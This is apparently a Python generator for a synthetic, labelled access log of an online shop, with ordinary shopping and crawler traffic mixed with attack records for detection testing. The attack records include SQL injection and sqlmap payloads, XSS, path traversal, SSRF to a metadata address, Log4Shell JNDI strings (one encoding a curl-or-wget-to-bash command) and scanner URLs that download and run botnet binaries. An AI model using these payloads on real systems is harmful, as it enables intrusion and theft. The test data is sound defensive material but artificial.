"""A shop's web server with addresses full of Persian words and filters, in the manner of a public access log of an online store.

Daily work: customers who browse, filter and order, crawlers, searches that hold words like union and select, passwords mistyped. Attacks:
injections by hand, sqlmap, requests for Log4j, scanners of the whole internet, stolen passwords tried one a time from many addresses. It
is not training material: it was written by a hand that did not know the training scenarios, to see what the model makes of a site that
nobody tuned it for, and what is learned from can no longer tell that.
"""
from __future__ import annotations

from typing import Optional
from urllib.parse import quote

from .people import CRAWLERS, browsers_until
from .site import Site, access_time, epoch

AGENTS = browsers_until(98)
START = epoch(2022, 1, 22)
DAYS = 4
PRODUCTS = ("لپ-تاپ-ایسوس,گوشی-موبایل-سامسونگ-مدل-گلکسی-A7,یخچال-فریزر-بوش,جاروبرقی-پاناسونیک-مدل-MC-CL787,چای-ساز-تفال,"
            "پنکه-رومیزی,اتو-بخار-فیلیپس,سشوار-رمینگتون-مدل-D3190,ماشین-لباسشویی-ال-جی-8-کیلویی,مخلوط-کن-کنوود,"
            "تلویزیون-سونی-55-اینچ,قهوه-ساز-دلونگی,ساعت-هوشمند-شیائومی,گوشت-کوب-برقی-براون,کولر-گازی-جنرال,"
            "آبمیوه-گیری-مولینکس").split(",")
FILTERS = ["p53", "b41", "b99", "p65", "stexists", "v1|بله", "b1", "b613", "p25,p74", "v0|سفید"]
REFERRERS = ["https://www.zanbil.ir/", "https://www.google.com/", "https://torob.com/product/%d", "https://www.zanbil.ir/m/filter/b%d",
             "https://emalls.ir/", "android-app://com.google.android.googlequicksearchbox", "https://www.zanbil.ir/filter/p62?page=%d",
             "-", "-", "https://www.zanbil.ir/login?referrer=https%%3A%%2F%%2Fwww.zanbil.ir%%2Fm%%2Fproduct%%2F%d"]
SEARCHES = ["laptop", "power bank", "union drill", "select 4 kettle", "drop earring", "iphone xs' case", "table lamp",
            "script notebook", 'cable 1/2" adapter', 'lg 55" tv', "یخچال", "کتری برقی", "tefal <new>", "robot & vacuum", "50% off",
            "where to buy sony", "char broil grill", "bosch or siemens", "exec chair", "update watch band", "' 7 inch tablet",
            "etc/extra blender"]
ATTACKER = "185.107.80.202"
BY_HAND_AGENT = AGENTS[9]
BY_HAND = [("GET", "/search?q='", 500), ("GET", "/search?q=test%27%20or%20%271%27=%271", 200),
           ("GET", "/search?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", 200),
           ("GET", "/search?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", 200), ("GET", "/search?q=<svg/onload=prompt(1)>",
    200), ("GET", "/product/6812%27/62/x", 404), ("GET", "/product/6812-1/62/x", 200), ("GET", "/product/6812%20and%201=1/62/x", 404),
           ("GET", "/product/compare?ids=6812)%20order%20by%2010--", 500), ("GET", "/product/compare?ids=6812)%20order%20by%2020--%20-",
    500), ("GET", "/product/compare?ids=-1)%20union%20select%201,2,3,4,version(),6,7--%20-", 200),
           ("GET", "/product/compare?ids=-1)/**/UNION/**/ALL/**/SELECT/**/1,2,3,4,group_concat(table_name),6,7/**/from/**/information_schema.tables--+",
            200), ("GET", "/product/compare?ids=-1)+union+select+1,2,3,4,concat(username,0x3a,password),6,7+from+admin_users--+-", 200),
           ("GET", "/image/../../../../etc/passwd", 400), ("GET", "/image/1?name=../../../../../../etc/passwd&wh=max", 404),
           ("GET", "/image/1?name=..%2f..%2f..%2f..%2fetc%2fpasswd&wh=200x200", 200),
           ("GET", "/image/1?name=....//....//....//etc/passwd", 404),
           ("GET", "/image/1?name=%252e%252e%252f%252e%252e%252fWEB-INF%252fweb.xml", 200),
           ("GET", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/WEB-INF/web.xml", 400), ("GET", "/article/616?model=file:///etc/hosts", 200),
           ("GET", "/article/616?model=http://169.254.169.254/latest/meta-data/", 200),
           ("GET", "/rss?url=php://filter/convert.base64-encode/resource=index", 404), ("GET", "/search?q=%7B%7B7*7%7D%7D", 200),
           ("GET", "/search?q=$%7B7*7%7D", 200), ("GET", "/comment/list?product=12;id", 200),
           ("GET", "/comment/list?product=12|cat%20/etc/passwd", 200), ("GET", "/comment/list?product=12%0Aid", 200),
           ("GET", "/comment/list?product=%60sleep%205%60", 200), ("GET", "/admin", 404), ("GET", "/admin/login", 200),
           ("POST", "/admin/login", 200), ("POST", "/admin/login", 200), ("POST", "/admin/login", 302), ("GET", "/console/", 404),
           ("GET", "/manager/html", 401), ("GET", "/actuator/env", 200), ("GET", "/actuator/heapdump", 200),
           ("GET", "/customer/profile?id=1001", 200), ("GET", "/customer/profile?id=1002", 200), ("GET", "/customer/profile?id=1003",
    200), ("GET", "/customer/profile?id=1004", 200), ("GET", "/customer/login?next=//evil.zzz.com/%2f..", 302),
           ("GET", "/customer/login?next=javascript:alert(1)", 200)]
SQLMAP = "sqlmap/1.3.1.4#dev (http://sqlmap.org)"
LOOKUPS = [
           "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xMC4wLjAuNTo0NDN8fHdnZXQgLXEgLU8tIDQ1LjE1NS4yMDUuMjMzOjU4NzQvMTAuMC4wLjU6NDQzKXxiYXNo}",
           "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}",
           "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://195.54.160.149:12344/Basic/Command/Base64/d2dldA==}",
           "${jndi:dns://c6rg8k2.interact.sh/a}",
           "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//167.99.221.217:8081/w}"]
SCANNED = ["/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php", "/pma/",
           "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin?username=admin&psd=admin",
           "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://103.149.28.141/t+-O-+|+sh`)",
           "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
           "/shell?cd+/tmp;rm+-rf+*;wget+45.14.224.27/jaws;sh+/tmp/jaws",
           r"/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
           "/solr/admin/info/system?wt=json", "/owa/auth/logon.aspx", "/autodiscover/autodiscover.json?@zdi/Powershell",
           "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/_ignition/execute-solution", "/api/jsonws/invoke", "/console/login/LoginForm.jsp",
           "/hudson", "/config/getuser?index=0", "/GponForm/diag_Form?images/", "/actuator/health", "/?XDEBUG_SESSION_START=phpstorm",
           "/manager/text/list", "/TP/public/index.php", "/backup.zip", "/www.zanbil.ir.rar", "/db.sql.gz", "/aws/credentials",
           "/old/.env", "/laravel/.env", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
           "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", "/HNAP1/",
           "/sitecore/shell/sitecore.version.xml", "/telescope/requests",
           "/s/0313e27363e2731323e2838313/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties"]


class WebShop(Site):
    """Access log of a shop."""

    name = "web_shop"
    host = "web1.zanbil.ir"
    sourcetype = "access_combined"
    seed = 404

    def build(self) -> None:
        self.prepare()
        self.shoppers()
        self.crawlers()
        self.by_hand()
        self.sqlmap()
        self.scanners()
        self.stolen_passwords()

    def request(self, at: float, address: str, method: str, path: str, status, size, referrer: str = "-", agent: str = "-",
                protocol: str = "HTTP/1.1", label: int = 0, group: Optional[str] = None, technique: Optional[str] = None) -> None:
        """One line of the access log."""
        self.add(at, f"{address} - - [{access_time(at, '+0330')}] \"{method} {path} {protocol}\" {status} {size} \"{referrer}\" \""
                 f"{agent}\" \"-\"", label, group, technique)

    def referrer(self):
        x = self.choice(REFERRERS)
        return x % self.rng.randint(1, 60000) if "%d" in x else x

    def some_url(self):
        """What a customer asks for."""
        dice = self.rng.randrange(16)
        if dice < 4:
            return (f"/image/{self.rng.randint(1, 66000)}?name="
                    f"{self.choice(['sm812b.jpg', '1_30_.jpg', 'nl-500-2.jpg', 'hd-7700_2_.jpg', '14-1.jpg', 'mdp-5.jpg', 'sj-pv58-wh.jpg'])}"
                    f"&wh={self.choice(['200x200', '50x50', '300x300', 'max'])}")
        if dice == 4:
            return f"/image/{self.rng.randint(1, 66000)}/productModel/{self.choice(['200x200', '100x100', '150x150', '500x500'])}"
        if dice == 5:
            return (f"/image/{self.rng.randint(1, 400)}/{self.choice(['brand', 'specialSale', 'productType', 'mainSlide', 'article'])}"
                    f"/{self.choice(['', '240x180', '']).strip()}")
        if dice == 6:
            return "/filter/" + quote(",".join(self.rng.sample(FILTERS, self.rng.randint(1, 4))),
                                      safe=",") + self.choice(["", f"?page={self.rng.randint(0, 30)}", f"?o={self.token(1)}"])
        if dice == 7:
            return "/m/filter/" + quote(",".join(self.rng.sample(FILTERS, self.rng.randint(1, 3))),
                                        safe=",") + self.choice(["",
                f"?name={quote(self.choice(SEARCHES))}&productType={quote(self.choice(PRODUCTS))}"])
        if dice == 8:
            return f"/product/{self.rng.randint(5000, 36000)}/{self.rng.randint(50, 70)}/{quote(self.choice(PRODUCTS))}"
        if dice == 9:
            return f"/m/product/{self.rng.randint(5000, 36000)}/{self.rng.randint(50, 70)}/{quote(self.choice(PRODUCTS))}"
        if dice == 10:
            return "/search?q=" + quote(self.choice(SEARCHES)).replace("%20", "+")
        if dice == 11:
            return "/browse/" + quote(self.choice(PRODUCTS)) + "/" + quote(self.choice(["خرید", "قیمت"]))
        if dice == 12:
            return f"/ajaxFilter/p{self.rng.randint(1, 100)},b{self.rng.randint(1, 600)}?page={self.rng.randint(0, 20)}"
        if dice == 13:
            return self.choice(["/static/css/font/wyekan/font.woff", "/static/css/font/icomoon/fonts/icomoon.ttf?f5eqc3",
                                "/static/images/guarantees/bestPrice.png", "/static/images/amp/telegram.png", "/settings/logo",
                                "/favicon.ico", "/amp-helper-frame.html?appId=a624a1c1-0c93-466a-9546-8b3a6cb8a0a8",
                                "/static/bundle-bundle_site_head.js", "/static/css/font/wfont/fonts/IRANSansWeb.woff2",
                                "/apple-touch-icon-precomposed.png", "/site/alexaGooglePlus"])
        if dice == 14:
            return self.choice(["/basket/view", "/basket/checkout?step=2", "/customer/login?next=%2Fbasket%2Fview", "/customer/profile",
                                "/rss", "/m/updateVariation", "/article/616?model=%E2%80%8C", "/news",
                                f"/login?referrer=https://www.zanbil.ir/m/product/{self.rng.randint(1, 9999)}",
                                "/comment/list?product=%d&sort=date desc".replace(" ", "%%20") % self.rng.randint(1, 9999),
                                f"/payment/callback?Authority=A{self.digits(35)}&Status=OK"])
        return f"/product/compare?ids={'%2C'.join(str(self.rng.randint(5000, 36000)) for _ in range(3))}" + "&utm_source=google&utm_medium=cpc&utm_campaign=brand&gclid=" + self.token(60)

    def letters(self, n: int = 4):
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(n))

    def prepare(self) -> None:
        """Who and what is there."""
        self.customers = [(self.address(self.choice(["5.1", "2.17", "37.2", "91.99", "151.23", "83.12", "66.11", "188.2"])),
                           self.choice(AGENTS)) for _ in range(170)]
        self.robots = [(f"66.249.66.{i}", CRAWLERS[0]) for i in (91, 194, 83)] + [("66.249.66.92", CRAWLERS[7]),
            ("207.46.13.136", CRAWLERS[1]), ("40.77.167.129", CRAWLERS[1]), ("54.36.149.41", CRAWLERS[2]),
            ("130.185.74.243", "Mozilla/5.0 (Windows NT 6.1; rv:42.0) Gecko/20100101 Firefox/42.0"),
            ("17.58.102.43",
             "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"),
            ("104.194.24.54", CRAWLERS[9]), ("91.99.72.15", CRAWLERS[13]),
            ("5.160.157.20", "Mozilla/5.0 (compatible; TorobBot/1.0; +https://torob.com)")]

    def shoppers(self) -> None:
        """Customers browse and order."""
        for _ in range(560):
            at = self.moment(START, DAYS)
            address, agent = self.choice(self.customers)
            for _ in range(self.rng.randint(1, 5)):
                path = self.some_url()
                method = "POST" if path in ("/m/updateVariation", "/site/alexaGooglePlus") else "GET"
                status = self.weighted([(200, 90), (304, 3), (302, 3), (301, 1), (404, 2), (499, 1.5), (500, 0.2)])
                self.request(at, address, method, path, status, 0 if status in (304, 499) else self.rng.randint(400, 60000),
                             self.referrer(), agent)
                at += self.rng.expovariate(1 / 7)

    def crawlers(self) -> None:
        """Crawlers read the catalogue."""
        for _ in range(420):
            at = self.moment(START, DAYS, [1] * 24)
            address, agent = self.choice(self.robots)
            path = self.some_url() if self.rng.random() < 0.85 else self.choice(["/robots.txt", "/sitemap.xml", "/ads.txt",
                "/sitemap/products-3.xml.gz", "/.well-known/assetlinks.json", "/humans.txt", f"/m/old/item/{self.rng.randint(1, 900)}"])
            self.request(at, address, "GET", path, self.weighted([(200, 80), (302, 8), (404, 8), (410, 2), (301, 2)]),
                         self.rng.randint(20, 60000), "-", agent, protocol=self.choice(["HTTP/1.1", "HTTP/1.1", "HTTP/2.0"]))

    def by_hand(self) -> None:
        """Injections and a look behind the counter, by hand."""
        at = START + 86400 + 15 * 3600
        for method, path, status in BY_HAND:
            at += self.rng.expovariate(1 / 25)
            group = "idor_admin" if "customer/profile" in path or "/admin" in path else "manual_injection"
            self.request(at, ATTACKER, method, path, status, self.rng.randint(0, 30000), "-" if self.rng.random() < 0.5
                         else "https://www.zanbil.ir/", BY_HAND_AGENT, label=1, group=group, technique="T1190")

    def sqlmap(self) -> None:
        """sqlmap at a filter of the search."""
        at = START + 2 * 86400 + 1 * 3600
        for i in range(150):
            a = self.rng.randint(1000, 9999)
            b = self.rng.randint(1000, 9999)
            p = self.choice([f"6812) AND {a}={a} AND ({b}={b}", f"6812 AND {a}={b}",
                             f"6812' AND {a}={a} AND '{self.letters()}'='{self.letters()}",
                             f"(SELECT (CASE WHEN ({a}={b}) THEN 6812 ELSE (SELECT {b} UNION SELECT {a}) END))",
                             f"6812 AND (SELECT {a} FROM(SELECT COUNT(*),CONCAT(0x717a6a7171,(SELECT (ELT({a}={a}"
                             ",1))),0x7178707671,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
                             f"6812 AND {a}=CAST((CHR(113)||CHR(122)||CHR(106)||CHR(113)||CHR(113))||(SELECT (CASE WHEN ({a}={a}"
                             ") THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC)", "6812 AND SLEEP(5)", "6812;WAITFOR DELAY '0:0:5'--",
                             f"6812) AND {a}=DBMS_PIPE.RECEIVE_MESSAGE(CHR({self.rng.randint(65, 90)})||CHR(98)||CHR(113),5) AND ({b}={b}",
                             f"6812 ORDER BY {self.rng.randint(1, 30)}-- {self.letters()}", "6812 UNION ALL SELECT "
                             + ",".join(["NULL"] * self.rng.randint(1, 12)) + "-- " + self.letters(),
                             f"-{a} UNION ALL SELECT NULL,CONCAT(0x717a6a7171,0x{self.hex(40)},0x7178707671),NULL-- {self.letters()}",
                             "6812 AND ORD(MID((SELECT IFNULL(CAST(COUNT(DISTINCT(schema_name)) AS CHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA),"
                             f"{self.rng.randint(1, 9)},1))>{self.rng.randint(32, 126)}", f"6812)\",.(,)(.'{self.letters()}",
                             f"6812'{self.letters(6)}<'\">{self.letters(6)}"])
            at += self.rng.random() * 0.5
            self.request(at, "103.77.204.18", "GET", "/product/compare?ids="
                         + quote(p, safe="(),*;:=-") + ("" if self.rng.random() < 0.6 else "&utm_source=google"),
                         self.weighted([(200, 7), (500, 3), (404, 1)]), self.rng.randint(300, 9000), "-", SQLMAP if i < 90
                         else AGENTS[3], label=1, group="sqlmap", technique="T1190")

    def scanners(self) -> None:
        """Requests for Log4j, and scanners that try every hole there is."""
        at = START + 3 * 86400 + 5 * 3600
        for _ in range(18):
            at += self.rng.expovariate(1 / 400)
            j = self.choice(LOOKUPS)
            w = self.rng.random()
            self.request(at, self.choice(["45.155.205.233", "171.25.193.20", "185.220.100.242", "45.137.21.9"]), "GET", "/" if w < 0.6
                         else "/?x=" + j, self.choice([200, 301, 400]), self.rng.randint(100, 30000), j if self.rng.random() < 0.4
                         else "-", j if w < 0.6 else "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", label=1,
                         group="log4shell", technique="T1190")
        for _ in range(75):
            at = self.moment(START, DAYS, [1] * 24)
            path = self.choice(SCANNED)
            self.request(at, self.address(), "POST" if "eval-stdin" in path or "Gpon" in path or "boaform" in path else "GET", path,
                         self.weighted([(404, 8), (301, 2), (400, 1), (403, 1)]), self.rng.randint(100, 600), "-",
                         self.choice(["Mozilla/5.0 zgrab/0.x", "Hello, world", "python-requests/2.6.0 CPython/2.7.5 Linux/3.10.0",
                                      "curl/7.29.0", "-",
                                      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
                                      "Go-http-client/1.1", "KrebsOnSecurity"]), label=1, group="internet_scanners",
                         technique="T1595.002")

    def stolen_passwords(self) -> None:
        """Stolen passwords, one a time; and customers who mistype theirs."""
        at = START + 10 * 3600
        for _ in range(45):
            at += self.rng.expovariate(1 / 1500)
            self.request(at, self.address(), "POST", "/customer/login?next=%2Fbasket%2Fview", 200, self.choice([7214, 7214, 7219]),
                         "https://www.zanbil.ir/customer/login", AGENTS[0], label=1, group="cred_stuffing", technique="T1110.004")
        for _ in range(60):
            moment_at = self.moment(START, DAYS)
            address, agent = self.choice(self.customers)
            self.request(moment_at, address, "POST", "/customer/login?next=%2Fbasket%2Fview",
                         *self.choice([(302, 0), (302, 0), (302, 0), (200, 7214)]), "https://www.zanbil.ir/customer/login", agent)
